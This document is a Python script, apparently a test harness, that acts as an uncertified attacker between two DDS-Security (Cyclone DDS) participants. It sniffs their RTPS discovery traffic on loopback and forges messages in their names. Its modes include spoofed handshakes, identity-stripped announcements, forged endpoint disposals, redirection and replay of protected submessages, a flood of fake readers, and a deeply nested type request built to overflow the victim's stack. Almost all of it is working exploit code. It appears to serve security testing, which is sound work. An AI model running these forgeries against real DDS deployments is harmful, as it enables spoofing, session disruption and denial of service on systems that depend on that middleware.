#!/usr/bin/env python3
"""A stranger without a certificate, in the network namespace of two participants. It hears their announcements
and, as soon as it knows both, forges handshake messages in the name of one to the other, which anyone in a
network can do: the channel of the handshake is not protected.

Usage: stranger.py request                an empty request to the participant that begins
       stranger.py answered CERTIFICATE   a request with the public certificate of the participant that begins,
                                          to the one that answers
       stranger.py flood                  empty replies and finals to both, for 300 ms
       stranger.py announced              the announcement of the first, with an identity token of an unknown
                                          class, to the second as soon as that announces itself
       stranger.py nameless               the announcement of the first, without an identity token, by multicast, from
                                          before the second is there until a second afterwards
       stranger.py fewer                  as `announced`, without secure discovery of endpoints
       stranger.py rightless              as `announced`, with a permissions token of an unknown class instead
       stranger.py privileged             to the one that answers, the announcement of an invented participant, on
                                          which its core takes the other to depend: both go when the invented one does.
                                          Before that it records what the two send each other, and sends it again as
                                          soon as they begin a new session
       stranger.py parting                to the one that answers, an invented participant as above, without an identity token,
                                          its end, and then the other's announcement without an identity token
       stranger.py parting-both           the same to each of the two
       stranger.py removing               to each of two that talk, clear announcements in the other's name that dispose of its
                                          endpoints and of its secure discovery, or put its readers elsewhere
       stranger.py removing-later         the same, when a line comes
       stranger.py redirecting PREFIX     what the participant whose GUIDs begin with PREFIX (hexadecimal) says to each
                                          other one under protected submessages, to all the others, for 2 s from when a
                                          line comes
       stranger.py crowding               to the one that answers, clear announcements of 650 readers in the name of the other
       stranger.py asking                 to each of two that talk, in the other's name and in the clear, a request for a type
                                          that is nested so deeply that its reader's stack ends
       stranger.py joining [TAG TAG]      the announcement of each participant to those of another domain (or of the other tag, of
                                          the same length), with their domain in it, until it is ended
It says "forged N" when it is done.
"""

import collections
import os
import select
import socket
import struct
import sys
import time

STATELESS_WRITER, STATELESS_READER = bytes.fromhex("000201c3"), bytes.fromhex("000201c4")
SPDP_WRITER, PARTICIPANT = bytes.fromhex("000100c2"), bytes.fromhex("000001c1")
DOMAIN_ID, METATRAFFIC_UNICAST, SENTINEL, ENDPOINT_SET, VERSION_INFO, UNKNOWN = 0x0f, 0x32, 0x01, 0x58, 0x8007, 0x8f01
OTHERS_DEPEND_ON_IT = 0x10  # a flag of Cyclone's VERSION_INFO
SECURE_DISCOVERY = 0x000f0000  # of publications and subscriptions, in ENDPOINT_SET
TYPE_REQUESTS = bytes.fromhex("000300c3")
DEPTH, FRAGMENT = 100000, 32000
RECORDED, REPLAYED, POURED, EARLY = 3, 6, 2, 1.5  # seconds
CLASS = "DDS:Auth:PKI-DH:1.0+"
# Any point of the curve will do as a public key for an agreement that is never finished: its generator.
P256_GENERATOR = bytes.fromhex("046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
                               "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5")


class Cdr:
    """Little endian."""

    def __init__(self):
        self.octets = bytearray()

    def raw(self, octets):
        self.octets += octets
        return self

    def align(self, size):
        self.octets += bytes(-len(self.octets) % size)
        return self

    def u32(self, value):
        return self.align(4).raw(struct.pack("<I", value))

    def i64(self, value):
        return self.align(8).raw(struct.pack("<q", value))

    def text(self, text):
        octets = text.encode() + b"\0"
        return self.u32(len(octets)).raw(octets)

    def sequence(self, octets):
        return self.u32(len(octets)).raw(octets)


def handshake(source, to, number, kind, properties=()):
    """A whole RTPS message with a ParticipantGenericMessage (DDS-Security 1.2, clause 7.3.22)."""
    cdr = Cdr().raw(source + STATELESS_WRITER).i64(number).raw(bytes(16)).i64(0)
    cdr.raw(to + PARTICIPANT).raw(bytes(32)).text("dds.sec.auth").u32(1)
    cdr.text(CLASS + kind).u32(0).u32(len(properties))
    for name, value in properties:
        cdr.text(name).sequence(value)
    body = (struct.pack("<HH", 0, 16) + STATELESS_READER + STATELESS_WRITER + struct.pack("<iI", 0, number)
            + b"\0\1\0\0" + bytes(cdr.align(4).octets))
    return (b"RTPS\2\1\1\x10" + source + struct.pack("<BBH", 0x0e, 1, 12) + to
            + struct.pack("<BBH", 0x15, 0x05, len(body)) + body)


def public_request(certificate, of):
    data = struct.pack(">HH", 0x50, 16) + of + PARTICIPANT + struct.pack(">HH", SENTINEL, 0)
    return [("c.id", certificate), ("c.perm", b"\0"), ("c.pdata", data), ("c.dsign_algo", b"ECDSA-SHA256\0"),
            ("c.kagree_algo", b"ECDH+prime256v1-CEUM\0"), ("dh1", P256_GENERATOR), ("challenge1", os.urandom(32))]


def submessages(message):
    at = 20
    while at + 4 <= len(message):
        kind, flags = message[at], message[at + 1]
        size, = struct.unpack_from("<H" if flags & 1 else ">H", message, at + 2)
        if size == 0 and kind not in (1, 9):
            size = len(message) - at - 4
        yield kind, flags, message[at + 4:at + 4 + size]
        at += 4 + size


def parameters(octets):
    at = 0
    while at + 4 <= len(octets):
        name, size = struct.unpack_from("<HH", octets, at)
        if name == SENTINEL:
            return
        yield name, octets[at + 4:at + 4 + size]
        at += 4 + size


def unicast_port(message):
    """Of an announcement."""
    for kind, flags, body in submessages(message):
        if kind != 0x15 or body[8:12] != SPDP_WRITER or not flags & 4 or not flags & 1:
            continue
        at = 4 + struct.unpack_from("<H", body, 2)[0]
        if flags & 2:
            at += sum(4 + len(value) for _, value in parameters(body[at:])) + 4
        for name, value in parameters(body[at + 4:]):
            if name == METATRAFFIC_UNICAST:
                return struct.unpack_from("<I", value, 4)[0]
    return None


def changed(announcement, parameter, offset, change):
    """With another number at that offset of the parameter's value."""
    at = announcement.index(struct.pack("<H", parameter)) + 4 + offset
    number, = struct.unpack_from("<I", announcement, at)
    return announcement[:at] + struct.pack("<I", change(number)) + announcement[at + 4:]


def fewer(announcement):
    return changed(announcement, ENDPOINT_SET, 0, lambda endpoints: endpoints & ~SECURE_DISCOVERY)


def nameless(announcement):
    """Returns the announcement with an unknown parameter in the place of the identity token."""
    at = announcement.index(b"DDS:Auth:PKI-DH:1.0") - 8
    return announcement[:at] + struct.pack("<H", UNKNOWN) + announcement[at + 2:]


def privileged(announcement):
    """The same of another participant with the same first four octets."""
    flagged = changed(announcement, VERSION_INFO, 4, lambda flags: flags | OTHERS_DEPEND_ON_IT)
    prefix = announcement[8:20]
    return flagged.replace(prefix, prefix[:4] + bytes(octet ^ 0x55 for octet in prefix[4:]))


def dispose_announcement(prefix):
    """The participant says in the clear that it is gone."""
    end = struct.pack("<HH", SENTINEL, 0)
    body = (struct.pack("<HH", 0, 16) + bytes.fromhex("000100c7") + SPDP_WRITER + struct.pack("<iI", 0, 77)
            + parameter(0x71, b"\0\0\0\3") + end + b"\0\3\0\0" + parameter(0x50, prefix + PARTICIPANT) + end)
    return b"RTPS\2\1\1\x10" + prefix + submessage(0x15, 0x0a, body)


def part(network, of, to):
    invented = nameless(privileged(network.announcements[of]))
    network.send(to, invented)
    time.sleep(0.02)
    network.send(to, dispose_announcement(invented[8:20]))
    for _ in range(10):
        time.sleep(0.01)
        network.send(to, nameless(network.announcements[of]))


def submessage(kind, flags, body):
    return struct.pack("<BBH", kind, flags | 1, len(body)) + body


def parameter(name, value):
    return struct.pack("<HH", name, len(value)) + value


def text(value):
    octets = value.encode() + b"\0"
    return struct.pack("<I", len(octets)) + octets + bytes(-len(octets) % 4)


def clear_discovery(of, to, number, endpoint, is_reader, payload, disposes):
    """HEARTBEAT and DATA of the unprotected writer of such announcements."""
    writer, reader = (bytes.fromhex(f"00000{4 if is_reader else 3}{kind}") for kind in ("c2", "c7"))
    at = struct.pack("<iI", 0, number)
    payload = b"\0\3\0\0" + parameter(0x5a, of + endpoint) + payload + struct.pack("<HH", SENTINEL, 0)
    status = parameter(0x71, b"\0\0\0\3") + struct.pack("<HH", SENTINEL, 0) if disposes else b""
    return (b"RTPS\2\1\1\x10" + of + submessage(0x0e, 0, to)
            + submessage(0x07, 0, reader + writer + at + at + struct.pack("<i", number))
            + submessage(0x15, 0x0a if disposes else 0x04, struct.pack("<HH", 0, 16) + reader + writer + at + status + payload))


def elsewhere(topic, type_name):
    """Returns a reliable reader of the topic, at a port on which no program listens."""
    locator = struct.pack("<iI", 1, 9) + bytes(12) + socket.inet_aton("127.0.0.1")
    return (parameter(0x05, text(topic)) + parameter(0x07, text(type_name)) + parameter(0x1a, struct.pack("<IiI", 2, 1, 0))
            + parameter(0x2f, locator))


def removals(of, to):
    """Cyclone DDS numbers endpoints from 1 and gives them the kinds 02 to 07; those of secure discovery are constants."""
    number = 0
    for endpoint in (f"{place:06x}{kind}" for place in range(1, 5) for kind in ("02", "03", "04", "07")):
        number += 1
        is_reader = endpoint[-1] in "47"
        if is_reader:
            yield clear_discovery(of, to, number, bytes.fromhex(endpoint), True, elsewhere("Square", "interop::Shape"), False)
            number += 1
        yield clear_discovery(of, to, number, bytes.fromhex(endpoint), is_reader, b"", True)
    for endpoint in ("ff0003c2", "ff0004c2", "ff0003c7", "ff0004c7"):
        number += 1
        yield clear_discovery(of, to, number, bytes.fromhex(endpoint), endpoint[-1] == "7", b"", True)


def crowd(of, to):
    """More readers than one certificate's places at a writer with origin authentication."""
    for number in range(5000, 5650):
        yield clear_discovery(of, to, number, struct.pack(">I", number << 8 | 7), True, elsewhere("Square", "interop::Shape"), False)


def type_request(of):
    """TypeLookup_Request (DDS-XTypes 7.6.3.3.4) for a sequence of sequences of sequences, in XCDR2."""
    nested = b"\x80\xf3\1\0\x77" + b"\x80\xf3\0\1\0\x77" * DEPTH + b"\4"
    size = 4 + len(nested)
    out = b"\0\7\0\0" + of + TYPE_REQUESTS + struct.pack("<III4s", 0, 5, 4, b"abc\0")
    out += struct.pack("<IIIIII", size + 16, 0x018252d3, size + 8, 0x5c536065, size, 1) + nested
    return out + bytes(-len(out) % 4)


def type_requests(of, to):
    """A HEARTBEAT, and the request in fragments."""
    begin = b"RTPS\2\1\1\x10" + of + submessage(0x0e, 0, to)
    ends, at = bytes(4) + TYPE_REQUESTS, struct.pack("<iI", 0, 1)
    yield begin + submessage(0x07, 0, ends + at + at + struct.pack("<i", 1000))
    whole = type_request(of)
    for place in range(0, len(whole), FRAGMENT):
        piece = whole[place:place + FRAGMENT]
        numbers = struct.pack("<IHHI", place // FRAGMENT + 1, 1, FRAGMENT, len(whole))
        yield begin + submessage(0x16, 0, struct.pack("<HH", 0, 28) + ends + at + numbers + piece)


def redirect(network, speaker):
    """Only the destination is changed, which stands in front of what is protected."""
    said = {}
    while not select.select([sys.stdin], [], [], 0)[0]:
        for to, message in network.heard(0.1):
            # INFO_DST and SEC_PREFIX; longer messages have samples in them.
            if message[8:14] == speaker and message[20] == 0x0e and message[36:37] == b"\x31" and len(message) < 220:
                said.setdefault(message[24:36], collections.deque(maxlen=12)).append((to, message))
    forged = [(said[other][-1][0], message[:24] + other + message[36:])
              for one in said for other in said if other != one for _, message in said[one]]
    network.replay(forged, POURED)


def domain_at(announcement, tags):
    """Where its domain id or tag stands, and how long that is."""
    if tags:
        return next(announcement.index(tag) for tag in tags if tag in announcement), len(tags[0])
    return announcement.index(struct.pack("<HH", DOMAIN_ID, 4)) + 4, 4


def join(network, tags):
    domains, heard = {}, set()
    while True:
        for _, message in network.heard(0.1):
            if message[8:20] in heard or not (port := unicast_port(message)):
                continue
            at, size = domain_at(message, tags)
            heard.add(message[8:20])  # what comes later in its name may be forged
            network.ports[message[8:20]] = port
            domains[message[8:20]] = message[at:at + size], message[:at], message[at + size:]
        for own, begin, end in domains.values():
            for other, (domain, _, _) in domains.items():
                if domain != own and network.sent < 400:
                    network.send(other, begin + domain + end)


FORGERIES = {"announced": lambda true: true.replace(b"PKI-DH:1.0", b"PKI-DH:9.0"), "fewer": fewer,
             "rightless": lambda true: true.replace(b"Permissions:1.0", b"Permissions:9.0")}


def is_reset(message):
    """plugins/spi/session_reset.hpp"""
    return len(message) == 120 and message[24:28] == bytes.fromhex("dd5ec0d5")


def destination(packet):
    return socket.inet_ntoa(packet[16:20]), struct.unpack_from(">H", packet, (packet[0] & 15) * 4 + 2)[0]


class Network:
    def __init__(self):
        self.packets = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        self.packets.bind(("lo", 0))
        self.out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.ports, self.announcements, self.group, self.sent = {}, {}, None, 0

    def hear(self, participants, meanwhile=lambda: None):
        self.packets.settimeout(0.01)
        while len(self.ports) < participants:
            meanwhile()
            try:
                packet = self.packets.recv(1 << 16)
            except TimeoutError:
                continue
            datagram = packet[(packet[0] & 15) * 4 + 8:]
            if packet[9] != socket.IPPROTO_UDP or datagram[:4] != b"RTPS":
                continue
            if self.note(datagram) and packet[16] == 239:
                self.group = destination(packet)
        return sorted(self.ports)  # the lower begins

    def note(self, message):
        """Remembers where its participant is, if it is an announcement."""
        port = unicast_port(message)
        if port:
            self.ports.setdefault(message[8:20], port)
            self.announcements.setdefault(message[8:20], message)
        return port

    def heard(self, seconds):
        """Destination and octets of all RTPS messages for so long."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            self.packets.settimeout(left)
            try:
                packet = self.packets.recv(1 << 16)
            except TimeoutError:
                return
            at = (packet[0] & 15) * 4
            if packet[9] == socket.IPPROTO_UDP and packet[at + 8:at + 12] == b"RTPS":
                yield destination(packet), packet[at + 8:]

    def replay(self, recorded, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for to, message in recorded:
                self.out.sendto(message, to)
                self.sent += 1
            time.sleep(0.01)

    def announce(self, message):
        """By multicast, as others did."""
        self.out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        self.out.sendto(message, self.group)
        self.sent += 1

    def send(self, to, message):
        self.out.sendto(message, ("127.0.0.1", self.ports[to]))
        self.sent += 1

    def repeat(self, seconds, pause, send):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            send()
            time.sleep(pause)


def main():
    mode, network = sys.argv[1], Network()
    if mode == "answered":
        with open(sys.argv[2], "rb") as file:
            certificate = file.read()
    print("listening", flush=True)
    if mode == "nameless":
        first, = network.hear(1)
        message = nameless(network.announcements[first])
        network.hear(2, lambda: network.announce(message))
        network.repeat(1, 0.01, lambda: network.announce(message))
        return print(f"forged {network.sent}", flush=True)
    if mode == "redirecting":
        redirect(network, bytes.fromhex(sys.argv[2]))
        return print(f"forged {network.sent}", flush=True)
    if mode == "joining":
        join(network, [tag.encode() for tag in sys.argv[2:]])
    begins, answers = network.hear(2)
    if mode == "request":
        message = handshake(answers, begins, 1000, "Req")
        network.repeat(0.03, 0.001, lambda: network.send(begins, message))
    elif mode == "answered":
        message = handshake(begins, answers, 1000, "Req", public_request(certificate, begins))
        network.repeat(0.03, 0.002, lambda: network.send(answers, message))
    elif mode in FORGERIES:
        first, second = network.announcements
        message = FORGERIES[mode](network.announcements[first])
        network.repeat(0.01, 0.002, lambda: network.send(second, message))
    elif mode in ("removing", "removing-later"):
        if mode == "removing-later":
            sys.stdin.readline()
        for of, to in ((begins, answers), (answers, begins)):
            for message in removals(of, to):
                network.send(to, message)
    elif mode == "asking":
        for of, to in ((begins, answers), (answers, begins)):
            for message in type_requests(of, to):
                network.send(to, message)
                time.sleep(0.002)
    elif mode == "early":
        messages = [(to, message) for of, to in ((begins, answers), (answers, begins))
                    for message in (*removals(of, to), *type_requests(of, to))]

        def all_of_them():
            for to, message in messages:
                network.send(to, message)
        network.repeat(EARLY, 0.0005, all_of_them)
    elif mode == "crowding":
        for message in crowd(begins, answers):
            network.send(answers, message)
            time.sleep(0.001)
    elif mode in ("parting", "parting-both"):
        part(network, begins, answers)
        if mode == "parting-both":
            part(network, answers, begins)
    elif mode == "privileged":
        recorded = list(network.heard(RECORDED))
        network.send(answers, privileged(network.announcements[begins]))
        next(message for _, message in network.heard(60) if is_reset(message))
        network.replay(recorded, REPLAYED)
    else:
        def both():
            network.send(answers, handshake(begins, answers, 1, "Final"))
            network.send(begins, handshake(answers, begins, 1, "Reply"))
        network.repeat(0.3, 0.0003, both)
    print(f"forged {network.sent}", flush=True)


if __name__ == "__main__":
    main()
